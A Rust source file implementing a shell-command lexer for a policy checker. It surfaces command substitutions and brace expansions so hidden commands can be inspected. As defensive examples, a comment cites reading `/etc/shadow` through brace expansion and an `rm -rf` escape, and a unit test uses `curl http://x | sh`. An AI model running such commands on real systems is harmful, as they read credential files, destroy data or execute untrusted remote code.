//! A POSIX-shell-like lexer: splits a command line into words, control operators
//! and redirections the way `sh` would, keeping command substitutions aside so the
//! policy can check what they would run.

use super::PolicyViolation;
use super::codes;

/// One shell word after quote removal.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub(crate) struct Word {
    /// The value after quote removal (variables and globs are left as written).
    pub text: String,
    /// The word contained an unquoted `$`, glob character or a substitution: only
    /// a shell can give it its final value.
    pub expands: bool,
    /// Command lines found in `$(...)`, backticks and `<(...)` / `>(...)`.
    pub substitutions: Vec<String>,
    /// An unquoted `{` appeared: the shell may brace-expand the word into several.
    pub brace: bool,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Token {
    Word(Word),
    /// `;` (also a newline), `&&`, `||`, `|`, `|&`, `&`, `;;`, `(`, `)`.
    Op(&'static str),
    /// `>`, `>>`, `<`, `<<<`, `>&`, `<&`, `&>`, `&>>`, `>|`, `<>`, with an optional fd.
    Redir(String),
}

const SHELL_SPECIAL: &[char] = &['*', '?', '['];

pub(crate) fn lex(line: &str) -> Result<Vec<Token>, PolicyViolation> {
    let chars: Vec<char> = line.chars().collect();
    let mut toks = Vec::new();
    let mut i = 0;
    let mut cur: Option<Word> = None;

    fn flush(cur: &mut Option<Word>, toks: &mut Vec<Token>) {
        if let Some(w) = cur.take() {
            if w.brace && w.substitutions.is_empty() {
                // `cat /{e,}tc/shadow`, `rm -rf x{,/..}`: the words the shell runs.
                for text in super::paths::brace_expand(&w.text) {
                    toks.push(Token::Word(Word {
                        text,
                        brace: false,
                        ..w.clone()
                    }));
                }
            } else {
                toks.push(Token::Word(w));
            }
        }
    }

    while i < chars.len() {
        let c = chars[i];
        match c {
            ' ' | '\t' | '\r' => {
                flush(&mut cur, &mut toks);
                i += 1;
            }
            '\n' => {
                flush(&mut cur, &mut toks);
                toks.push(Token::Op(";"));
                i += 1;
            }
            '#' if cur.is_none() => {
                while i < chars.len() && chars[i] != '\n' {
                    i += 1;
                }
            }
            '\'' => {
                let w = cur.get_or_insert_with(Word::default);
                let end = find_char(&chars, i + 1, '\'').ok_or_else(|| unterminated(line, "'"))?;
                w.text.extend(&chars[i + 1..end]);
                i = end + 1;
            }
            '"' => {
                let w = cur.get_or_insert_with(Word::default);
                i = lex_double_quoted(line, &chars, i + 1, w)?;
            }
            '\\' => {
                let w = cur.get_or_insert_with(Word::default);
                match chars.get(i + 1) {
                    Some('\n') => {}
                    Some(n) => w.text.push(*n),
                    None => {}
                }
                i += 2;
            }
            '$' if chars.get(i + 1) == Some(&'\'') => {
                // ANSI-C quoting `$'\x2f'`: its value, decoded as bash does.
                let w = cur.get_or_insert_with(Word::default);
                i = lex_ansi_c(line, &chars, i + 2, w)?;
            }
            '$' if chars.get(i + 1) == Some(&'"') => {
                // `$"…"` (a translatable string) is a double-quoted string.
                let w = cur.get_or_insert_with(Word::default);
                i = lex_double_quoted(line, &chars, i + 2, w)?;
            }
            '$' => {
                let w = cur.get_or_insert_with(Word::default);
                i = lex_dollar(line, &chars, i, w)?;
            }
            '`' => {
                let w = cur.get_or_insert_with(Word::default);
                let end = find_backtick(&chars, i + 1).ok_or_else(|| unterminated(line, "`"))?;
                let inner: String = chars[i + 1..end].iter().collect();
                w.text.push('`');
                w.text.push_str(&inner);
                w.text.push('`');
                w.substitutions.push(inner.replace("\\`", "`"));
                w.expands = true;
                i = end + 1;
            }
            '<' | '>' if chars.get(i + 1) == Some(&'(') => {
                // Process substitution `<(cmd)` / `>(cmd)`.
                let w = cur.get_or_insert_with(Word::default);
                let end =
                    find_closing_paren(&chars, i + 2).ok_or_else(|| unterminated(line, "("))?;
                let inner: String = chars[i + 2..end].iter().collect();
                w.text.push(c);
                w.text.push('(');
                w.text.push_str(&inner);
                w.text.push(')');
                w.substitutions.push(inner);
                w.expands = true;
                i = end + 1;
            }
            '<' | '>' => {
                // A word made only of digits right before the operator is its fd.
                let mut op = String::new();
                if let Some(w) = &cur
                    && !w.expands
                    && w.substitutions.is_empty()
                    && !w.text.is_empty()
                    && w.text.chars().all(|d| d.is_ascii_digit())
                    && i > 0
                    && chars[i - 1].is_ascii_digit()
                {
                    op.push_str(&w.text);
                    cur = None;
                }
                flush(&mut cur, &mut toks);
                let rest: String = chars[i..chars.len().min(i + 3)].iter().collect();
                let sym = if c == '<' {
                    if rest.starts_with("<<<") {
                        "<<<"
                    } else if rest.starts_with("<<") {
                        return Err(PolicyViolation::new(
                            codes::POLICY_UNSUPPORTED_SYNTAX,
                            format!("here-documents (`<<`) are not accepted in `{line}`"),
                        ));
                    } else if rest.starts_with("<&") {
                        "<&"
                    } else if rest.starts_with("<>") {
                        "<>"
                    } else {
                        "<"
                    }
                } else if rest.starts_with(">>") {
                    ">>"
                } else if rest.starts_with(">&") {
                    ">&"
                } else if rest.starts_with(">|") {
                    ">|"
                } else {
                    ">"
                };
                op.push_str(sym);
                i += sym.len();
                toks.push(Token::Redir(op));
            }
            '&' => {
                flush(&mut cur, &mut toks);
                if chars.get(i + 1) == Some(&'&') {
                    toks.push(Token::Op("&&"));
                    i += 2;
                } else if chars.get(i + 1) == Some(&'>') {
                    if chars.get(i + 2) == Some(&'>') {
                        toks.push(Token::Redir("&>>".into()));
                        i += 3;
                    } else {
                        toks.push(Token::Redir("&>".into()));
                        i += 2;
                    }
                } else {
                    toks.push(Token::Op("&"));
                    i += 1;
                }
            }
            '|' => {
                flush(&mut cur, &mut toks);
                match chars.get(i + 1) {
                    Some('|') => {
                        toks.push(Token::Op("||"));
                        i += 2;
                    }
                    Some('&') => {
                        toks.push(Token::Op("|&"));
                        i += 2;
                    }
                    _ => {
                        toks.push(Token::Op("|"));
                        i += 1;
                    }
                }
            }
            ';' => {
                flush(&mut cur, &mut toks);
                if chars.get(i + 1) == Some(&';') {
                    toks.push(Token::Op(";;"));
                    i += 2;
                } else {
                    toks.push(Token::Op(";"));
                    i += 1;
                }
            }
            '(' => {
                flush(&mut cur, &mut toks);
                toks.push(Token::Op("("));
                i += 1;
            }
            ')' => {
                flush(&mut cur, &mut toks);
                toks.push(Token::Op(")"));
                i += 1;
            }
            c if c.is_control() => {
                return Err(PolicyViolation::new(
                    codes::POLICY_PARSE_ERROR,
                    format!("control character U+{:04X} in command line", c as u32),
                ));
            }
            _ => {
                let w = cur.get_or_insert_with(Word::default);
                w.brace |= c == '{';
                if SHELL_SPECIAL.contains(&c) || (c == '~' && w.text.is_empty()) {
                    w.expands = true;
                }
                w.text.push(c);
                i += 1;
            }
        }
    }
    flush(&mut cur, &mut toks);
    Ok(toks)
}

fn unterminated(line: &str, what: &str) -> PolicyViolation {
    PolicyViolation::new(
        codes::POLICY_PARSE_ERROR,
        format!("unterminated `{what}` in `{line}`"),
    )
}

fn find_char(chars: &[char], from: usize, target: char) -> Option<usize> {
    (from..chars.len()).find(|&j| chars[j] == target)
}

fn find_backtick(chars: &[char], from: usize) -> Option<usize> {
    let mut j = from;
    while j < chars.len() {
        match chars[j] {
            '\\' => j += 2,
            '`' => return Some(j),
            _ => j += 1,
        }
    }
    None
}

/// Index of the `)` closing a `(` opened just before `from`, skipping quotes.
fn find_closing_paren(chars: &[char], from: usize) -> Option<usize> {
    let mut depth = 1usize;
    let mut j = from;
    while j < chars.len() {
        match chars[j] {
            '\\' => j += 1,
            '\'' => j = find_char(chars, j + 1, '\'')?,
            '"' => {
                j += 1;
                while j < chars.len() && chars[j] != '"' {
                    if chars[j] == '\\' {
                        j += 1;
                    }
                    j += 1;
                }
            }
            '(' => depth += 1,
            ')' => {
                depth -= 1;
                if depth == 0 {
                    return Some(j);
                }
            }
            _ => {}
        }
        j += 1;
    }
    None
}

/// Lexes the inside of `$'…'` starting after the opening quote, decoding its
/// escapes into the word; returns the index after the closing quote.
fn lex_ansi_c(
    line: &str,
    chars: &[char],
    mut i: usize,
    w: &mut Word,
) -> Result<usize, PolicyViolation> {
    let digits = |from: usize, max: usize, radix: u32| -> (u32, usize) {
        let mut value = 0u32;
        let mut n = 0;
        while n < max
            && let Some(d) = chars.get(from + n).and_then(|c| c.to_digit(radix))
        {
            value = value * radix + d;
            n += 1;
        }
        (value, n)
    };
    while i < chars.len() {
        match chars[i] {
            '\'' => return Ok(i + 1),
            '\\' => {
                let Some(&e) = chars.get(i + 1) else { break };
                let (decoded, used) = match e {
                    'n' => (Some('\n'), 1),
                    't' => (Some('\t'), 1),
                    'r' => (Some('\r'), 1),
                    'a' => (Some('\u{7}'), 1),
                    'b' => (Some('\u{8}'), 1),
                    'e' | 'E' => (Some('\u{1b}'), 1),
                    'f' => (Some('\u{c}'), 1),
                    'v' => (Some('\u{b}'), 1),
                    'x' => {
                        let (v, n) = digits(i + 2, 2, 16);
                        (char::from_u32(v).filter(|_| n > 0), 1 + n)
                    }
                    'u' | 'U' => {
                        let (v, n) = digits(i + 2, if e == 'u' { 4 } else { 8 }, 16);
                        (char::from_u32(v).filter(|_| n > 0), 1 + n)
                    }
                    '0'..='7' => {
                        let (v, n) = digits(i + 1, 3, 8);
                        (char::from_u32(v), n)
                    }
                    'c' => (
                        chars
                            .get(i + 2)
                            .map(|c| char::from_u32((*c as u32) & 0x1f).unwrap_or(*c)),
                        2,
                    ),
                    other => (Some(other), 1),
                };
                if let Some(c) = decoded {
                    w.text.push(c);
                }
                i += 1 + used;
            }
            c => {
                w.text.push(c);
                i += 1;
            }
        }
    }
    Err(unterminated(line, "$'"))
}

/// Lexes `$...` at `chars[i]`; returns the index after it.
fn lex_dollar(
    line: &str,
    chars: &[char],
    i: usize,
    w: &mut Word,
) -> Result<usize, PolicyViolation> {
    match chars.get(i + 1) {
        Some('(') if chars.get(i + 2) == Some(&'(') => {
            // Arithmetic expansion: no command runs, keep as text.
            let end = find_closing_paren(chars, i + 2).ok_or_else(|| unterminated(line, "$(("))?;
            let end = if chars.get(end + 1) == Some(&')') {
                end + 1
            } else {
                end
            };
            w.text.extend(&chars[i..=end]);
            w.expands = true;
            Ok(end + 1)
        }
        Some('(') => {
            let end = find_closing_paren(chars, i + 2).ok_or_else(|| unterminated(line, "$("))?;
            let inner: String = chars[i + 2..end].iter().collect();
            w.text.push_str("$(");
            w.text.push_str(&inner);
            w.text.push(')');
            w.substitutions.push(inner);
            w.expands = true;
            Ok(end + 1)
        }
        Some('{') => {
            let end = find_char(chars, i + 2, '}').ok_or_else(|| unterminated(line, "${"))?;
            if chars[i + 2..end].iter().any(|&c| c == '`' || c == '(') {
                // `${X:-$(cmd)}`: a substitution the policy would not see.
                return Err(PolicyViolation::new(
                    codes::POLICY_UNSUPPORTED_SYNTAX,
                    format!("command substitution inside `${{…}}` in `{line}`"),
                ));
            }
            w.text.extend(&chars[i..=end]);
            w.expands = true;
            Ok(end + 1)
        }
        Some(n) if n.is_ascii_alphanumeric() || "_@*#?$!-".contains(*n) => {
            let mut j = i + 1;
            if n.is_ascii_alphabetic() || *n == '_' {
                while j < chars.len() && (chars[j].is_ascii_alphanumeric() || chars[j] == '_') {
                    j += 1;
                }
            } else {
                j += 1;
            }
            w.text.extend(&chars[i..j]);
            w.expands = true;
            Ok(j)
        }
        _ => {
            w.text.push('$');
            Ok(i + 1)
        }
    }
}

/// Lexes the inside of `"..."` starting after the opening quote; returns the index
/// after the closing quote.
fn lex_double_quoted(
    line: &str,
    chars: &[char],
    mut i: usize,
    w: &mut Word,
) -> Result<usize, PolicyViolation> {
    while i < chars.len() {
        match chars[i] {
            '"' => return Ok(i + 1),
            '\\' => {
                match chars.get(i + 1) {
                    Some(n @ ('"' | '\\' | '$' | '`')) => w.text.push(*n),
                    Some('\n') => {}
                    Some(n) => {
                        w.text.push('\\');
                        w.text.push(*n);
                    }
                    None => return Err(unterminated(line, "\"")),
                }
                i += 2;
            }
            '$' => i = lex_dollar(line, chars, i, w)?,
            '`' => {
                let end = find_backtick(chars, i + 1).ok_or_else(|| unterminated(line, "`"))?;
                let inner: String = chars[i + 1..end].iter().collect();
                w.text.push('`');
                w.text.push_str(&inner);
                w.text.push('`');
                w.substitutions.push(inner.replace("\\`", "`"));
                w.expands = true;
                i = end + 1;
            }
            c => {
                w.text.push(c);
                i += 1;
            }
        }
    }
    Err(unterminated(line, "\""))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(line: &str) -> Vec<String> {
        lex(line)
            .unwrap()
            .into_iter()
            .map(|t| match t {
                Token::Word(w) => w.text,
                Token::Op(o) => format!("<{o}>"),
                Token::Redir(r) => format!("[{r}]"),
            })
            .collect()
    }

    #[test]
    fn splits_like_a_shell() {
        assert_eq!(
            words(r#"pip install "a b" 'c;d' e\ f&&npm ci 2>/dev/null|tee x"#),
            vec![
                "pip",
                "install",
                "a b",
                "c;d",
                "e f",
                "<&&>",
                "npm",
                "ci",
                "[2>]",
                "/dev/null",
                "<|>",
                "tee",
                "x"
            ]
        );
    }

    #[test]
    fn keeps_substitutions() {
        let toks = lex(r#"echo "$(curl http://x | sh)" `id`"#).unwrap();
        let subs: Vec<String> = toks
            .into_iter()
            .filter_map(|t| match t {
                Token::Word(w) => Some(w.substitutions),
                _ => None,
            })
            .flatten()
            .collect();
        assert_eq!(
            subs,
            vec!["curl http://x | sh".to_string(), "id".to_string()]
        );
    }
}
